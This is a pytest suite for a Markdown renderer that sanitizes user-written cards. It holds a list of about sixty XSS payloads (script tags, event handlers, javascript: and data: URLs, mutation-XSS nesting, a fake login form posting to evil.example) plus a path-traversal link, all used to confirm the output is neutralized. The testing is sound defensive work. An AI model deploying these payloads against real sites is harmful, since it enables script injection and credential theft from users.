"""Cards are written by strangers. Nothing of them may run, load from elsewhere, or pass for a part of the page."""

import re
from html.parser import HTMLParser

import pytest

from viveiro.http.highlighting import highlight, highlight_lines, language_of_path
from viveiro.http.markdown import MAX_CHARS, Comments, render_markdown

ATTEMPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<img/src=x/onerror=alert(1)>",
    "<p onclick=alert(1)>click</p>",
    "<details open ontoggle=alert(1)>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;avascript&colon;alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">a</a>',
    '<a href=" javascript:alert(1)">a</a>',
    '<a href="java&#9;script:alert(1)">a</a>',
    '<a href="\x01javascript:alert(1)">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    '![a](x.png"onerror="alert(1))',
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<style>body { display: none }</style>",
    "<p style='position:fixed;inset:0'>over the page</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<iframe src=//evil.example></iframe>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<textarea></textarea><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<video src=x onerror=alert(1)><source src=x></video>",
    "<audio src=//evil.example/x>",
    "<p id=main class='button primary' x-data=copy x-on:click=copy hx-get=/logout>",
    "<a href=/x target=_blank download ping=//evil.example>a</a>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```\"onmouseover='alert(1)'\nx\n```",
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    '# x" onclick="alert(1)',
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "> <div>\n> <script>alert(1)\n",
    "<div><p><b><a href=x><img src=x onerror=alert(1)>",
    "*<b>*</b><script>alert(1)</script>",
    "---\ntitle: <script>alert(1)</script>\n---\n<script>alert(1)</script>",
]
ALLOWED_TAGS = {
    *("h2", "h3", "h4", "h5", "h6", "p", "div", "span", "br", "hr", "blockquote", "pre", "details", "summary"),
    *(
        "a",
        "abbr",
        "b",
        "code",
        "del",
        "em",
        "i",
        "img",
        "ins",
        "kbd",
        "q",
        "s",
        "samp",
        "small",
        "strong",
        "sub",
        "sup",
    ),
    *("u", "var", "figure", "figcaption", "ul", "ol", "li", "dl", "dt", "dd"),
    *("table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td"),
}
ALLOWED_ATTRIBUTES = {
    *(
        "href",
        "title",
        "rel",
        "src",
        "alt",
        "width",
        "height",
        "align",
        "colspan",
        "rowspan",
        "id",
        "class",
        "start",
        "tabindex",
    ),
    *("open", "tabindex"),
}
SAFE_ADDRESS = re.compile(r"https?://|mailto:|/(?![/\\])|#card-")


class Elements(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, dict(attributes)))


def render(text):
    return render_markdown(text, base="/acai/x")


def elements(text):
    return Elements(render(text)).found


class TestHostileText:
    @pytest.mark.parametrize("text", ATTEMPTS)
    def test_leaves_only_what_shows_text(self, text):
        found = elements(text)
        assert {tag for tag, _ in found} <= ALLOWED_TAGS
        assert {name for _, attributes in found for name in attributes} <= ALLOWED_ATTRIBUTES
        assert {attributes.get("tabindex", "0") for _, attributes in found} <= {"0"}

    @pytest.mark.parametrize("text", ATTEMPTS)
    def test_leads_nowhere_but_to_addresses(self, text):
        addresses = [each.get("href", each.get("src")) for tag, each in elements(text) if tag in ("a", "img")]
        assert all(address is None or SAFE_ADDRESS.match(address) for address in addresses)

    @pytest.mark.parametrize("text", ATTEMPTS)
    def test_takes_no_class_and_no_id_of_the_page(self, text):
        for _, attributes in elements(text):
            assert re.fullmatch(r"(hl-\w+)?", attributes.get("class", ""))
            assert re.fullmatch(r"(card-.*)?", attributes.get("id", ""))

    @pytest.mark.parametrize(
        "text",
        [
            "<div>" * 100_000,
            "<div></x>" * 50_000,
            ">" * 100_000,
            "<b>" * 100_000,
            "[" * 100_000,
            "*a_" * 60_000,
            "![a](" * 50_000,
            "`" * 999 + "a" + "".join("`" * length + " " for length in range(600)),
            "\n".join(" " * depth + "- a" for depth in range(500)),
            "|a|b|\n|-|-|\n" + "|1|2|\n" * 40_000,
            "```python\n" + "'" * 190_000,
            "https://a/" + ")." * 40_000,
            "https://a " * 8_000,
        ],
        ids=lambda text: text[:9],
    )
    def test_of_any_length_and_depth_is_cut_and_not_waited_for(self, text):
        assert len(render(text)) < 20 * MAX_CHARS

    def test_of_a_depth_that_no_card_has_is_shown_as_it_is(self):
        assert render("<div>" * 600) == '<pre tabindex="0"><code>' + "&lt;div&gt;" * 600 + "</code></pre>"


class TestLinks:
    @pytest.mark.parametrize(
        ("address", "expected"),
        [
            ("https://example.org/a?b=c&d", "https://example.org/a?b=c&d"),
            ("mailto:ana@example.org", "mailto:ana@example.org"),
            ("//example.org/a", "https://example.org/a"),
            ("docs/usage.md", "/acai/x/blob/main/docs/usage.md"),
            ("./docs/usage.md#Set-up", "/acai/x/blob/main/docs/usage.md#card-set-up"),
            ("<a b#c.md>", "/acai/x/blob/main/a%20b#card-c-md"),
            ("a%20b%23c.md", "/acai/x/blob/main/a%20b%23c.md"),
            ("../../../etc/passwd", "/acai/x/blob/main/etc/passwd"),
            (".", "/acai/x/tree/main"),
            ("/datasets/acai/tickets", "/datasets/acai/tickets"),
            ("#Set-up", "#card-set-up"),
        ],
    )
    def test_lead_to_files_of_the_repo_or_elsewhere(self, address, expected):
        [(_, link)] = [each for each in elements(f"[a]({address})") if each[0] == "a"]
        assert link["href"] == expected
        assert link["rel"] == "nofollow noopener noreferrer ugc"

    def test_know_the_folder_and_the_revision_of_their_text(self):
        html = render_markdown("[a](../b.md)", base="/datasets/acai/x", revision="feature/y", folder="docs/deep")
        assert 'href="/datasets/acai/x/blob/feature%2Fy/docs/b.md"' in html

    @pytest.mark.parametrize(
        ("text", "address"),
        [
            ("see https://example.org/a?b=c&d.", "https://example.org/a?b=c&d"),
            ("(see https://example.org/a_(b).)", "https://example.org/a_(b)"),
            ("**http://example.org/a_b_c**", "http://example.org/a_b_c"),
            ("| a |\n|-|\n| https://example.org |", "https://example.org"),
            ("- [x] HTTPS://example.org/ação", "HTTPS://example.org/a%C3%A7%C3%A3o"),
        ],
    )
    def test_are_made_of_addresses_in_the_text(self, text, address):
        [link] = [attributes for tag, attributes in elements(text) if tag == "a"]
        assert link == {"href": address, "rel": "nofollow noopener noreferrer ugc"}

    @pytest.mark.parametrize(
        "text",
        [
            "`https://example.org`",
            "    https://example.org",
            "https://",
            "xhttps://example.org",
            "javascript://example.org/%0aalert(1)",
        ],
    )
    def test_are_not_made_of_code_and_of_what_is_no_address(self, text):
        assert [attributes for tag, attributes in elements(text) if tag == "a"] == []

    @pytest.mark.parametrize("text", ["[https://a.org/x](https://b.org)", "<a href='https://b.org'>https://a.org</a>"])
    def test_hold_no_others(self, text):
        assert [attributes["href"] for tag, attributes in elements(text) if tag == "a"] == ["https://b.org"]


class TestPictures:
    def test_of_the_repo_are_shown(self):
        assert elements("![curve](img/loss curve.svg)") == [("p", {})]
        [_, (_, picture)] = elements("![curve](<img/loss curve.svg>)")
        assert picture == {"src": "/acai/x/picture/main/img/loss%20curve.svg", "alt": "curve"}

    @pytest.mark.parametrize(
        "text", ["![a curve](https://example.org/c.png)", "<img alt='a curve' src='//example.org/c.png'>"]
    )
    def test_from_elsewhere_become_links(self, text):
        assert '<a href="https://example.org/c.png" rel="nofollow noopener noreferrer ugc">a curve</a>' in render(text)

    def test_from_elsewhere_inside_a_link_become_its_text(self):
        html = render("[![build](https://example.org/badge.svg)](https://example.org)")
        assert html == ('<p><a href="https://example.org" rel="nofollow noopener noreferrer ugc">build</a></p>\n')


class TestText:
    def test_has_no_front_matter(self):
        assert render("---\nlicense: mit\n---\nHello") == "<p>Hello</p>\n"

    def test_headings_stand_below_the_one_of_the_page_and_can_be_linked_to(self):
        html = render("# Use\n## Use\n###### Deep `down`")
        assert '<h2 id="card-use">Use</h2>' in html
        assert '<h3 id="card-use-1">Use</h3>' in html
        assert '<h6 id="card-deep-down">Deep <code>down</code></h6>' in html

    def test_tables_keep_their_alignment(self):
        assert '<td align="right">1</td>' in render("| a |\n|--:|\n| 1 |")

    def test_figures_of_a_table_are_not_torn_apart(self):
        html = render("| 0.82 (0.77–0.88) | Gate 7 |\n|-|-|\n| 1 | −3.5 % |")
        assert re.findall(r'<t[hd] class="hl-figures">(.*?)<', html) == ["0.82 (0.77–0.88)", "−3.5 %"]

    def test_tasks_have_boxes(self):
        html = render("- [ ] sow\n- [x] water")
        assert "<li>☐ sow</li>" in html
        assert "<li>☑ water</li>" in html

    def test_code_has_colours(self):
        html = render("```python\nreturn 1 # done\n```")
        assert '<span class="hl-keyword">return</span>' in html
        assert '<span class="hl-comment"># done</span>' in html


class TestKeysAndEars:
    """Readers without a mouse reach what scrolls; readers without eyes are told of no heading that is none."""

    def test_code_and_tables_can_be_reached(self):
        found = elements("|a|b|\n|-|-|\n|1|2|\n\n```\ncode\n```\n\n    more")
        assert [attributes["tabindex"] for tag, attributes in found if tag in ("pre", "table")] == ["0", "0", "0"]

    def test_the_empty_corner_of_a_table_is_a_cell(self):
        tags = [tag for tag, _ in elements("| |b|\n|-|-|\n|1|2|")]
        assert (tags.count("th"), tags.count("td")) == (1, 3)


class TestHighlighting:
    @pytest.mark.parametrize("language", ["python", "json", "yaml", "bash", "html", "no-such-language", ""])
    def test_the_text_stays_what_it_was(self, language):
        code = "\n\n<b class=\"x\">&amp; \"quoted\"\n  '''three\nlines'''\n\n"
        bare = re.sub(r"</?span[^>]*>", "", highlight(code, language))
        assert bare == code.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace(
            '"', "&#34;"
        ).replace("'", "&#39;")

    def test_lines_are_whole_by_themselves(self):
        lines = highlight_lines('"""a\nb"""\n', "python")
        assert [line.count("<span") for line in lines] == [line.count("</span>") for line in lines]
        assert len(lines) == 2

    @pytest.mark.parametrize(
        ("path", "language"),
        [
            ("a/train.PY", "python"),
            ("config.json", "json"),
            ("Dockerfile", "docker"),
            ("a.unknown", ""),
            ("LICENSE", ""),
        ],
    )
    def test_the_language_is_told_by_the_name(self, path, language):
        assert language_of_path(path) == language


class TestComments:
    def test_when_they_are_too_many_the_rest_is_shown_as_it_was_typed(self):
        comments = Comments("/acai/tickets")
        first, *_, last = [comments.html("**said** <b>&</b>" + " " * 70_000) for _ in range(7)]
        assert first == "<p><strong>said</strong> <b>&amp;</b></p>\n"
        assert last.startswith('<pre tabindex="0"><code>**said** &lt;b&gt;&amp;&lt;/b&gt; ')
